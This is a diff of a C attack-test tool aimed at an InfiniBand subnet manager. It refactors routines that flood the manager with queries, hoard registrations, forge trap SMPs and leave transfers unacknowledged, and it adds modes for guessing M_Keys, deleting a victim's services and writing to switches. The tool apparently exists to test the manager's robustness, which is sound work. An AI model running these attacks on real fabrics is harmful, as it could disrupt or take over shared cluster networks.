@@ -1,62 +1,50 @@
-/* A host that attacks the manager: floods, hoarding, forged SMPs, clients that do not read.
+/* A host that attacks the manager: floods, hoarding, forged SMPs, requests that only others may
+ * make.
  *
  *     attacker MODE SECONDS
  *
- * It sends for that time as fast as it can, or until it has what it wants, and prints
- * "attempts N granted M": M requests were granted that exceed what one port may have. The modes are
- * in a table at the end. An attack reads answers only if it has to know them. */
+ * It attacks for that time as fast as it can, and prints "attempts N granted M": M requests were
+ * granted that exceed what this port may have or do. The modes are in a table at the end. An attack
+ * reads responses only if it has to know them. The environment has the GUIDs of ports
+ * (ATTACK_VICTIM, ATTACK_MASTER, ATTACK_STANDBY) and the M_Key of the attacker's own port
+ * (ATTACK_M_KEY), which its owner can know. */
+#include "attack/attacker.h"
 #include "base/mem.h"
-#include "base/rng.h"
-#include "wire/mad.h"
 #include "wire/packet.h"
 
 #include <endian.h>
 #include <infiniband/umad.h>
-#include <stdbool.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
 #include <time.h>
 
-#define PREFIX UINT64_C(0xFE80000000000000)
-enum { IN_BYTES = 64 << 20, WINDOW = 128, TOP_LID = 1024 };
-/* What one port may have by default. */
-enum { SERVICES_ALLOWED = 32, SUBSCRIPTIONS_ALLOWED = 32, GROUPS_ALLOWED = 128 };
+enum { ASK_MS = 100 };
 
-struct attacker {
-    int port, agent, smp_agent, directed_agent;
-    uint16_t own_lid, master_lid;
-    uint64_t own_guid;
-    uint8_t *out, *in;
-    uint32_t tid;
-    uint64_t end_us, attempts, granted;
-    struct rng rng;
-};
-
-static uint64_t clock_us(void)
+uint64_t clock_us(void)
 {
     struct timespec t;
     clock_gettime(CLOCK_MONOTONIC, &t);
     return (uint64_t)t.tv_sec * 1000000 + (uint64_t)t.tv_nsec / 1000;
 }
 
-static bool goes_on(const struct attacker *attacker)
+bool goes_on(const struct attacker *attacker)
 {
     return clock_us() < attacker->end_us;
 }
 
-/* ---- messages ---- */
+/* ---- SA ---- */
 
-static uint8_t *make_query(struct attacker *attacker, unsigned method, unsigned attribute,
-                           uint64_t mask)
+uint8_t *make_query(struct attacker *attacker, unsigned method, unsigned attribute, uint64_t mask)
 {
     uint8_t *mad = umad_get_mad(attacker->out);
     sa_request_begin(mad, method, attribute);
     wire_set(mad, SA_COMPONENT_MASK, mask);
+    umad_set_grh(attacker->out, NULL);
     return mad + SA_DATA_OFFSET;
 }
 
-static void send_query(struct attacker *attacker, int timeout_ms)
+void send_query(struct attacker *attacker, int timeout_ms)
 {
     wire_set(umad_get_mad(attacker->out), MAD_TID, ++attacker->tid);
     umad_set_addr(attacker->out, attacker->master_lid, 1, 0, (int)Q_KEY_GSI);
@@ -64,62 +52,44 @@ static void send_query(struct attacker *attacker, int timeout_ms)
     attacker->attempts++;
 }
 
-/* Takes the answers that have arrived, and waits for one if there are `outstanding`. Returns the
- * number of those with status 0. */
-static unsigned take_answers(struct attacker *attacker, unsigned *outstanding, unsigned most)
+const uint8_t *response(const struct attacker *attacker)
+{
+    return umad_get_mad(attacker->in);
+}
+
+/* The status of the next response; -1: a request timed out; -2: there is none within `wait_ms`. */
+static int next_response(struct attacker *attacker, int wait_ms, size_t *bytes)
+{
+    int length = IN_BYTES;
+    if (umad_recv(attacker->port, attacker->in, &length, wait_ms) < 0)
+        return -2;
+    *bytes = (size_t)length;
+    return umad_status(attacker->in) ? -1 : (int)wire_get(response(attacker), MAD_STATUS);
+}
+
+int ask(struct attacker *attacker, size_t *bytes)
+{
+    send_query(attacker, ASK_MS);
+    int status = next_response(attacker, 10 * ASK_MS, bytes);
+    while (status != -2 && (uint32_t)wire_get(response(attacker), MAD_TID) != attacker->tid)
+        status = next_response(attacker, 10 * ASK_MS, bytes);
+    return status < 0 ? -1 : status;
+}
+
+unsigned take_answers(struct attacker *attacker, unsigned *outstanding, unsigned most)
 {
     unsigned granted = 0;
-    int bytes = IN_BYTES;
+    size_t bytes;
+    int status;
     while (*outstanding &&
-           umad_recv(attacker->port, attacker->in, &bytes, *outstanding >= most ? 1000 : 0) >= 0) {
-        granted +=
-            umad_status(attacker->in) == 0 && wire_get(umad_get_mad(attacker->in), MAD_STATUS) == 0;
+           (status = next_response(attacker, *outstanding >= most ? 1000 : 0, &bytes)) != -2) {
+        granted += status == 0;
         --*outstanding;
-        bytes = IN_BYTES;
     }
     return granted;
 }
 
-static void set_gid(uint8_t *gid, uint64_t prefix, uint64_t guid)
-{
-    wire_set_bits(gid, 0, 64, prefix);
-    wire_set_bits(gid, 64, 64, guid);
-}
-
-/* ---- hoarding ---- */
-
-static void make_service(struct attacker *attacker, unsigned number)
-{
-    uint8_t *record = make_query(attacker, METHOD_SET, ATTRIBUTE_SERVICE_RECORD, 3);
-    wire_set(record, SERVICE_RECORD_ID, 0x100000 + number);
-    set_gid(wire_bytes(record, SERVICE_RECORD_GID), PREFIX, attacker->own_guid);
-}
-
-static void make_subscription(struct attacker *attacker, unsigned number)
-{
-    uint8_t *inform = make_query(attacker, METHOD_SET, ATTRIBUTE_INFORM_INFO, 0);
-    wire_set(inform, INFORM_INFO_LID_RANGE_BEGIN, 0xFFFF);
-    wire_set(inform, INFORM_INFO_IS_GENERIC, 1);
-    wire_set(inform, INFORM_INFO_SUBSCRIBE, 1);
-    wire_set(inform, INFORM_INFO_TYPE, number < 2 ? 0xFFFF : number / 0x1000);
-    wire_set(inform, INFORM_INFO_TRAP_NUMBER, number < 2 ? 66 + number : 1000 + number % 0x1000);
-    wire_set(inform, INFORM_INFO_PRODUCER_TYPE, 0xFFFFFF);
-}
-
-static void make_join(struct attacker *attacker, unsigned method, unsigned number)
-{
-    enum { MGID, PORT, Q_KEY, CLASS = 6, P_KEY, SL = 12, FLOW, STATE = 16 };
-    uint8_t *record = make_query(attacker, method, ATTRIBUTE_MC_MEMBER_RECORD,
-                                 1 << MGID | 1 << PORT | 1 << Q_KEY | 1 << CLASS | 1 << P_KEY |
-                                     1 << SL | 1 << FLOW | 1 << STATE);
-    set_gid(wire_bytes(record, MC_MEMBER_RECORD_MGID), UINT64_C(0xFF12A01CBAD00000), number + 1);
-    set_gid(wire_bytes(record, MC_MEMBER_RECORD_PORT_GID), PREFIX, attacker->own_guid);
-    wire_set(record, MC_MEMBER_RECORD_P_KEY, 0xFFFF);
-    wire_set(record, MC_MEMBER_RECORD_JOIN_STATE, 1);
-}
-
-/* Registers until the time is over, and returns the number of what was granted. */
-static uint64_t hoard(struct attacker *attacker, void (*make)(struct attacker *, unsigned))
+uint64_t hoard(struct attacker *attacker, void (*make)(struct attacker *, unsigned))
 {
     unsigned outstanding = 0;
     uint64_t granted = 0;
@@ -132,114 +102,21 @@ static uint64_t hoard(struct attacker *attacker, void (*make)(struct attacker *,
     return granted + take_answers(attacker, &outstanding, 1);
 }
 
-static void make_new_group(struct attacker *attacker, unsigned number)
-{
-    make_join(attacker, METHOD_SET, number);
-}
-
-static void beyond(struct attacker *attacker, uint64_t granted, unsigned allowed)
-{
-    attacker->granted = granted > allowed ? granted - allowed : 0;
-}
-
-static void hoard_services(struct attacker *attacker)
-{
-    beyond(attacker, hoard(attacker, make_service), SERVICES_ALLOWED);
-}
-
-static void hoard_subscriptions(struct attacker *attacker)
-{
-    beyond(attacker, hoard(attacker, make_subscription), SUBSCRIPTIONS_ALLOWED);
-}
-
-static void hoard_groups(struct attacker *attacker)
-{
-    beyond(attacker, hoard(attacker, make_new_group), GROUPS_ALLOWED);
-}
-
-/* ---- floods of queries ---- */
-
-/* Services as many as possible, then look-ups of one that does not exist. */
-static void miss_services(struct attacker *attacker)
-{
-    unsigned outstanding = 0;
-    uint64_t end_us = attacker->end_us;
-    attacker->end_us = clock_us() + (end_us - clock_us()) / 2;
-    hoard(attacker, make_service);
-    attacker->end_us = end_us;
-    while (goes_on(attacker)) {
-        wire_set(make_query(attacker, METHOD_GET, ATTRIBUTE_SERVICE_RECORD, 1), SERVICE_RECORD_ID,
-                 7);
-        send_query(attacker, 1000);
-        outstanding++;
-        take_answers(attacker, &outstanding, WINDOW);
-    }
-}
-
-/* Look-ups by a component that is not indexed. */
-static void scan_services(struct attacker *attacker)
-{
-    enum { DATA8_2 = 9 };
-    unsigned outstanding = 0;
-    while (goes_on(attacker)) {
-        wire_set_at(
-            make_query(attacker, METHOD_GET, ATTRIBUTE_SERVICE_RECORD, UINT64_C(1) << DATA8_2),
-            SERVICE_RECORD_DATA8, 2, 99);
-        send_query(attacker, 1000);
-        outstanding++;
-        take_answers(attacker, &outstanding, WINDOW);
-    }
-}
-
-static void query_tables(struct attacker *attacker)
-{
-    while (goes_on(attacker)) {
-        make_query(attacker, METHOD_GET_TABLE,
-                   attacker->attempts % 2 ? ATTRIBUTE_PORT_INFO_RECORD : ATTRIBUTE_PATH_RECORD, 0);
-        send_query(attacker, 0);
-    }
-}
-
-/* Asks, and reads no answer. */
-static void query_without_reading(struct attacker *attacker)
-{
-    while (goes_on(attacker)) {
-        make_query(attacker, METHOD_GET, ATTRIBUTE_CLASS_PORT_INFO, 0);
-        send_query(attacker, 100);
-    }
-}
-
-/* Asks for tables as a client without RMPP: the answers are never acknowledged. */
-static void query_tables_without_acknowledging(struct attacker *attacker)
+void leave_rmpp(struct attacker *attacker)
 {
     umad_unregister(attacker->port, attacker->agent);
     attacker->agent = umad_register(attacker->port, CLASS_SUBN_ADM, 2, 0, NULL);
-    while (goes_on(attacker)) {
-        make_query(attacker, METHOD_GET_TABLE, ATTRIBUTE_PORT_INFO_RECORD, 0);
-        send_query(attacker, 0);
-    }
 }
 
-/* Subscribes to all reports about groups, then creates and deletes groups: never answers. */
-static void provoke_reports(struct attacker *attacker)
+void set_gid(uint8_t *gid, uint64_t prefix, uint64_t guid)
 {
-    unsigned outstanding = 0;
-    for (unsigned i = 0; i < 2; i++) {
-        make_subscription(attacker, i);
-        send_query(attacker, 1000);
-        outstanding++;
-    }
-    for (unsigned i = 0; goes_on(attacker); i++) {
-        make_join(attacker, i % 2 ? METHOD_DELETE : METHOD_SET, i / 2 % 64);
-        send_query(attacker, 1000);
-        outstanding++;
-        take_answers(attacker, &outstanding, 16);
-    }
+    wire_set_bits(gid, 0, 64, prefix);
+    wire_set_bits(gid, 64, 64, guid);
 }
 
-/* ---- forged SMPs ---- */
+/* ---- SMPs ---- */
 
-static uint8_t *make_smp(struct attacker *attacker, unsigned method, unsigned attribute)
+uint8_t *make_smp(struct attacker *attacker, unsigned method, unsigned attribute, uint32_t modifier)
 {
     uint8_t *mad = umad_get_mad(attacker->out);
     memset(mad, 0, MAD_BYTES);
@@ -248,65 +125,77 @@ static uint8_t *make_smp(struct attacker *attacker, unsigned method, unsigned at
     wire_set(mad, MAD_CLASS_VERSION, 1);
     wire_set(mad, MAD_METHOD, method);
     wire_set(mad, MAD_ATTRIBUTE_ID, attribute);
+    wire_set(mad, MAD_ATTRIBUTE_MODIFIER, modifier);
     wire_set(mad, MAD_TID, ++attacker->tid);
+    umad_set_grh(attacker->out, NULL);
     return mad + SMP_DATA_OFFSET;
 }
 
-static void send_smp(struct attacker *attacker, unsigned lid)
+void send_smp(struct attacker *attacker, unsigned lid, int timeout_ms)
 {
     umad_set_addr(attacker->out, (int)lid, 0, 0, 0);
-    umad_send(attacker->port, attacker->smp_agent, attacker->out, MAD_BYTES, 0, 0);
+    umad_send(attacker->port, attacker->smp_agent, attacker->out, MAD_BYTES, timeout_ms, 0);
     attacker->attempts++;
-}
-
-/* Traps 128 in the name of every LID: "a port of this switch has changed". */
-static void forge_traps(struct attacker *attacker)
-{
-    while (goes_on(attacker)) {
-        uint8_t *notice = make_smp(attacker, METHOD_TRAP, ATTRIBUTE_NOTICE);
-        wire_set(notice, NOTICE_IS_GENERIC, 1);
-        wire_set(notice, NOTICE_TYPE, 1);
-        wire_set(notice, NOTICE_PRODUCER_TYPE, 2);
-        wire_set(notice, NOTICE_TRAP_NUMBER, 128);
-        wire_set(notice, NOTICE_ISSUER_LID, 1 + rng_below(&attacker->rng, TOP_LID));
-        send_smp(attacker, attacker->master_lid);
-    }
-}
-
-static void own_traps(struct attacker *attacker)
-{
-    while (goes_on(attacker)) {
-        uint8_t *notice = make_smp(attacker, METHOD_TRAP, ATTRIBUTE_NOTICE);
-        wire_set(notice, NOTICE_IS_GENERIC, 1);
-        wire_set(notice, NOTICE_TYPE, 4);
-        wire_set(notice, NOTICE_PRODUCER_TYPE, 1);
-        wire_set(notice, NOTICE_TRAP_NUMBER, 144);
-        wire_set(notice, NOTICE_ISSUER_LID, attacker->own_lid);
-        send_smp(attacker, attacker->master_lid);
-    }
-}
-
-static void flood_sm_info(struct attacker *attacker)
-{
-    while (goes_on(attacker)) {
-        make_smp(attacker, METHOD_GET, ATTRIBUTE_SM_INFO);
-        send_smp(attacker, attacker->master_lid);
-    }
 }
 
 /* ---- the program ---- */
 
 static const struct mode {
     const char *name;
-    void (*run)(struct attacker *attacker);
+    attack *run;
 } modes[] = {
-    {"services", hoard_services},      {"subscriptions", hoard_subscriptions},
-    {"groups", hoard_groups},          {"misses", miss_services},
-    {"scans", scan_services},          {"tables", query_tables},
-    {"unread", query_without_reading}, {"unacknowledged", query_tables_without_acknowledging},
-    {"reports", provoke_reports},      {"traps", forge_traps},
-    {"own-traps", own_traps},          {"sminfo", flood_sm_info},
+    {"services", hoard_services},
+    {"services-with-key", hoard_services_with_key},
+    {"subscriptions", hoard_subscriptions},
+    {"groups", hoard_groups},
+    {"proxy-groups", hoard_proxy_groups},
+    {"misses", miss_services},
+    {"scans", scan_services},
+    {"tables", query_tables},
+    {"unread", query_without_reading},
+    {"unacknowledged", query_tables_without_acknowledging},
+    {"reports", provoke_reports},
+    {"traps", forge_traps},
+    {"own-traps", send_own_traps},
+    {"p-key-traps", send_p_key_traps},
+    {"sminfo", flood_sm_info},
+    {"open-transfers", open_transfers},
+    {"endless-transfers", send_endless_transfer},
+    {"malformed-segments", send_malformed_segments},
+    {"register", register_own},
+    {"foreign-services", register_for_victim},
+    {"foreign-deletes", delete_of_victim},
+    {"read-keys", read_keys},
+    {"grh", query_with_grh},
+    {"polls", poll_as_standby},
+    {"controls", control_managers},
+    {"guesses", guess_m_keys},
+    {"own-key", use_own_m_key},
+    {"lease", outlast_lease},
+    {"switches", write_switches},
 };
+
+static uint64_t number_of(const char *variable)
+{
+    const char *text = getenv(variable);
+    return text ? strtoull(text, NULL, 0) : 0;
+}
+
+/* The LID of the port with this GUID, or 0. */
+static uint16_t find_lid(struct attacker *attacker, uint64_t guid)
+{
+    enum { DGID = 1 << 2, SGID = 1 << 3, NUMBER = 1 << 12 };
+    size_t bytes;
+    if (!guid)
+        return 0;
+    uint8_t *path = make_query(attacker, METHOD_GET, ATTRIBUTE_PATH_RECORD, DGID | SGID | NUMBER);
+    set_gid(wire_bytes(path, PATH_RECORD_SGID), PREFIX, attacker->own_guid);
+    set_gid(wire_bytes(path, PATH_RECORD_DGID), PREFIX, guid);
+    wire_set(path, PATH_RECORD_NUMB_PATH, 1);
+    if (ask(attacker, &bytes) != 0)
+        return 0;
+    return (uint16_t)wire_get(response(attacker) + SA_DATA_OFFSET, PATH_RECORD_DLID);
+}
 
 static bool open_port(struct attacker *attacker)
 {
@@ -323,8 +212,18 @@ static bool open_port(struct attacker *attacker)
         return false;
     attacker->agent = umad_register(attacker->port, CLASS_SUBN_ADM, 2, RMPP_THIS_VERSION, NULL);
     attacker->smp_agent = umad_register(attacker->port, CLASS_SUBN_LID, 1, 0, NULL);
-    attacker->directed_agent = umad_register(attacker->port, CLASS_SUBN_DIRECTED, 1, 0, NULL);
-    return attacker->agent >= 0 && attacker->smp_agent >= 0 && attacker->directed_agent >= 0;
+    return attacker->agent >= 0 && attacker->smp_agent >= 0;
+}
+
+static void find_targets(struct attacker *attacker)
+{
+    attacker->own_m_key = number_of("ATTACK_M_KEY");
+    attacker->master_guid = number_of("ATTACK_MASTER");
+    attacker->standby_guid = number_of("ATTACK_STANDBY");
+    attacker->victim_guid = number_of("ATTACK_VICTIM");
+    attacker->standby_lid = find_lid(attacker, attacker->standby_guid);
+    attacker->victim_lid = find_lid(attacker, attacker->victim_guid);
+    attacker->attempts = 0;
 }
 
 int main(int argc, char **argv)
@@ -345,8 +244,9 @@ int main(int argc, char **argv)
     }
     attacker.out = mem_zalloc(1, sizeof(struct ib_user_mad) + MAD_BYTES);
     attacker.in = mem_zalloc(1, sizeof(struct ib_user_mad) + IN_BYTES);
-    attacker.end_us = clock_us() + strtoul(argv[2], NULL, 10) * 1000000;
     rng_seed(&attacker.rng, attacker.own_guid, 0);
+    find_targets(&attacker);
+    attacker.end_us = clock_us() + strtoul(argv[2], NULL, 10) * 1000000;
     mode->run(&attacker);
     printf("attempts %llu granted %llu\n", (unsigned long long)attacker.attempts,
            (unsigned long long)attacker.granted);
